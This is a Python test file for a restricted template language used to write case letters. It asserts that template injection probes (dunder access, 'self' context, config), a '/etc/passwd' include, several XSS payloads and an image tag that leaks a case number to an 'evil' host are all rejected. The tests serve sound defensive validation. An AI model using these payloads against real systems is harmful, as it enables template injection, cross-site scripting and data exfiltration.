"""Templates of letters name values and loop over lists; whatever else they try is told with its
line, and nothing in them can run without end or reach beyond what they are given."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relief.kernel.errors import Invalid
from relief.letters.language import (
    LETTER_CHARS_MAX,
    TEMPLATE_CHARS_MAX,
    TEXT,
    Shape,
    checked,
    faults_of,
    title_of,
    written,
)

SHAPE: dict[str, Shape] = {
    "case": {"number": TEXT, "matter": TEXT},
    "bring": [TEXT],
    "said": [{"title": TEXT, "value": TEXT}],
}
VALUES = {
    "case": {"number": "P2005-0001", "matter": "一行\n<script>alert(1)</script>"},
    "bring": ["身份证", "户口簿"],
    "said": [{"title": "依据", "value": "劳动法"}],
}


def told(source: str) -> list[tuple[int, str]]:
    return [(fault.line, str(fault.text)) for fault in faults_of(source, SHAPE, titled=False)]


def test_names_loops_and_questions_are_all_that_a_letter_needs() -> None:
    source = (
        "<h1>{% block title %}收件\n回执{% endblock %}</h1>\n"
        "{% if bring and not case.number == 'x' %}<ol>{% for each in bring %}"
        "<li>{{ loop.index }} {{ each }}</li>{% endfor %}</ol>{% else %}–{% endif %}"
        "{% for each in said if each.value %}{{ each.title }}：{{ each.value }}{% endfor %}"
    )
    assert faults_of(source, SHAPE, titled=True) == []
    assert title_of(source) == "收件 回执"
    assert "<li>1 身份证</li><li>2 户口簿</li></ol>依据：劳动法" in written(source, VALUES)


def test_values_are_escaped_whatever_they_hold() -> None:
    assert written("<p>{{ case.matter | lines }}</p>", VALUES) == (
        "<p>一行<br>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    )


@pytest.mark.parametrize(
    ("source", "what"),
    [
        ("{{ range(9) }}", "no call"),
        ("{{ ''.join(bring) }}", "no call"),
        ("{{ case.__class__ }}", 'no "case.__class__"'),
        ("{{ case.number.__class__.__mro__ }}", 'no "case.number.__class__"'),
        ("{{ case['__class__'] }}", "no getitem"),
        ("{{ ().__class__ }}", "Only names stand before a dot"),
        ("{{ self._TemplateReference__context }}", 'no "self"'),
        ("{{ lipsum }}", 'no "lipsum"'),
        ("{{ cycler }}", 'no "cycler"'),
        ("{{ config }}", 'no "config"'),
        ("{% set a = 'a' %}", "no assign"),
        ("{% set a %}a{% endset %}", "no assignblock"),
        ("{% macro a() %}{% endmacro %}", "no macro"),
        ("{% call a() %}{% endcall %}", "no callblock"),
        ("{% include '/etc/passwd' %}", "no include"),
        ("{% import 'a' as b %}", "no import"),
        ("{% extends 'layout.html' %}", "no extends"),
        ("{% with a = 1 %}{% endwith %}", "no with"),
        ("{% filter upper %}a{% endfilter %}", "no filterblock"),
        ("{% autoescape false %}{{ case.number }}{% endautoescape %}", "no scope"),
        ("{{ case.matter | safe }}", 'no filter "safe"'),
        ("{{ 'a' * 999999999 }}", "no mul"),
        ("{{ 9 ** 9 ** 9 }}", "no pow"),
        ("{{ 'a' ~ 'b' }}", "no concat"),
        ("{{ [1, 2] }}", "no list"),
        ("{% for a in range(9) %}{% endfor %}", "Loop over a list by its name"),
        ("{% for a in 'abc' %}{% endfor %}", "Loop over a list by its name"),
        ("{% for a in case %}{% endfor %}", '"case" is not a list'),
        ("{% for a, b in said %}{% endfor %}", "is not a list"),
        ("{% for a in said recursive %}{% endfor %}", "at most 2 deep"),
        ("{{ bring }}", "is not a text"),
        ("{{ case.nmae }}", 'no "case.nmae"; there is: matter, number'),
        ("{% for a in said %}{{ a.price }}{% endfor %}", 'no "a.price"; there is: title, value'),
        ("{% block other %}{% endblock %}", 'only block of a letter is "title"'),
        ("{% block title %}{{ case.number }}{% endblock %}", "title is plain words"),
        ("<script>alert(1)</script>", '"<script>" has no place'),
        ("<scr{# #}ipt>x</scr{# #}ipt>", '"<script>" has no place'),
        ('<scr{{ "ipt" }}>', "is no tag"),
        ('<p s{# #}tyle="color: red">', "has no place"),
        ("<im{# #}g on{# #}error=alert(1)>", "is no tag"),
        ('<img s{# #}rc="http://evil/?{{ case.number }}">', "is no tag"),
        ("<p class={{ case.matter }}>", "is no tag"),
        ('<p class="{{ case.matter }}">', "is no tag"),
        ("<p{% if bring %}>{% endif %}", "is no tag"),
        ('<{% if bring %}p class="a{% endif %}">', "is no tag"),
        ("{% for a in bring %}<scr{% else %}ipt>{% endfor %}", "is no tag"),
        ('<p class="a" class="b">', "has no place"),
        ('</p class="a">', "has no place"),
        ('<td colspan="1000">', "has no place"),
        ("<plaintext>", "has no place"),
        ("<textarea>", "has no place"),
        ("<!-- ", "is no tag"),
        ("<!--> <p> -->", "is no tag"),
        ("<!-- {{ case.number }} -->", "is no tag"),
        ("<![CDATA[x]]>", "is no tag"),
        ("<?xml ?>", "is no tag"),
        ('<p/onclick="x">', "is no tag"),
        ("1 < 2", "is no tag"),
        ("{% block title %}a{% endblock %}{% block title %}b{% endblock %}", "said above already"),
        ("<ScRiPt >", "has no place"),
        ("<p onclick=\"x\">", "has no place"),
        ("<img src=\"http://somewhere/a.png\">", "has no place"),
        ("<a href=\"javascript:x\">", "has no place"),
        ("<style>p {}</style>", "has no place"),
        ("<meta http-equiv=refresh>", "is no tag"),
        ("<p style=\"color: red\">", "has no place"),
        ("a\u202eb", "cannot be seen"),
        ("{{ case.number", "cannot be read"),
        ("{% if %}", "cannot be read"),
        ("{% nothing %}", "cannot be read"),
    ],
)  # fmt: skip
def test_whatever_else_a_template_tries_is_told_with_its_line(source: str, what: str) -> None:
    faults = told(f"<p>\n</p>\n{source}")
    assert any(what in text for _line, text in faults), faults
    assert {line for line, _text in faults} == {3} or "autoescape" in source


def test_every_fault_is_told_at_once() -> None:
    assert [line for line, _text in told("{{ a }}\n{{ b() }}\n<script>")] == [1, 2, 3]


def test_loops_are_as_long_as_our_lists_and_two_deep() -> None:
    two = "{% for a in bring %}{% for b in bring %}x{% endfor %}{% endfor %}"
    assert told(two) == []
    assert written(two, VALUES) == "xxxx"
    three = f"{{% for c in bring %}}{two}{{% endfor %}}"
    assert "at most 2 deep" in told(three)[0][1]


def test_megabytes_are_refused_before_they_are_made() -> None:
    long = {**VALUES, "bring": ["a" * 4000] * 1000}
    source = "{% for a in bring %}{% for b in bring %}{{ b }}{% endfor %}{% endfor %}"
    assert told(source) == []
    with pytest.raises(Invalid, match=str(LETTER_CHARS_MAX)):
        written(source, long)


@pytest.mark.parametrize(
    "source",
    [
        "a" * (TEMPLATE_CHARS_MAX + 1),
        "{{" + "(" * 5000,
        "{% if bring %}" * 3000 + "{% endif %}" * 3000,
        "{% if bring %}" * 120 + "{% endif %}" * 120,
        "{{ " + "not " * 8000 + "bring }}",
        "{{ " + "9" * 5000 + " }}",
    ],
    ids=[
        "too long",
        "brackets",
        "thousands of questions",
        "a hundred questions",
        "not not not",
        "a number",
    ],
)
def test_what_would_break_whoever_reads_it_is_told(source: str) -> None:
    assert len(told(source)) == 1


def test_letter_without_a_title_is_told() -> None:
    [fault] = faults_of("<p>{{ case.number }}</p>", SHAPE, titled=True)
    assert 'block named "title"' in str(fault.text)


@given(st.lists(st.sampled_from([
    "{{", "}}", "{%", "%}", "case", ".number", "bring", " for ", " in ", " if ", "endfor", "endif",
    "a", "(", ")", "'", "|", "lines", "~", "[", "]", "{#", "#}", "\n", "block title", "endblock",
    "{% for a in bring %}", "{% endfor %}", "{% if a %}", "{% endif %}", "__class__", "self",
]), max_size=14).map("".join))  # fmt: skip
def test_whatever_is_written_is_told_or_made(source: str) -> None:
    if not faults_of(source, SHAPE, titled=False):
        assert isinstance(written(source, VALUES), str)


class _Reader(HTMLParser):
    """Reads as readers do, and says which tags and attributes there were."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen |= {tag, *(f"{name}=" for name, _value in attrs)}

    def handle_decl(self, decl: str) -> None:
        self.seen.add(decl)

    unknown_decl = handle_decl
    handle_pi = handle_decl


PIECES = st.sampled_from([
    "<", ">", "/", "scr", "ipt", "p", "img", " ", "class=", '"', "'", "a", "on", "click=", "=",
    "{# #}", "{{ case.matter }}", "{{ 'b' }}", "{% if bring %}", "{% else %}", "{% endif %}",
    "<!--", "-->", "-", "<p>", "</p>", '<p class="a">', "&", "lt;", "!", "?", "\n", "style",
    "{% for a in bring %}", "{% endfor %}", "<p ", "</", "{{ case.matter | lines }}",
])  # fmt: skip


@given(st.lists(PIECES, max_size=16).map("".join))
def test_whatever_is_taken_comes_out_as_the_markup_of_a_letter(source: str) -> None:
    if faults_of(source, SHAPE, titled=False):
        return
    for values in (VALUES, {**VALUES, "bring": []}):
        reader = _Reader()
        reader.feed(checked(written(source, values)))
        reader.close()
        assert reader.seen <= {"p", "br", "class="}


def test_page_that_is_no_letter_is_refused_once_more_when_it_is_made() -> None:
    assert checked("<p>a</p>") == "<p>a</p>"
    with pytest.raises(Invalid, match="has no place"):
        checked("<p>a</p><script>")


def test_what_cannot_be_compared_is_told() -> None:
    source = "{% if 1 < case.number %}a{% endif %}"
    assert told(source) == []
    with pytest.raises(Invalid, match="cannot be compared"):
        written(source, VALUES)
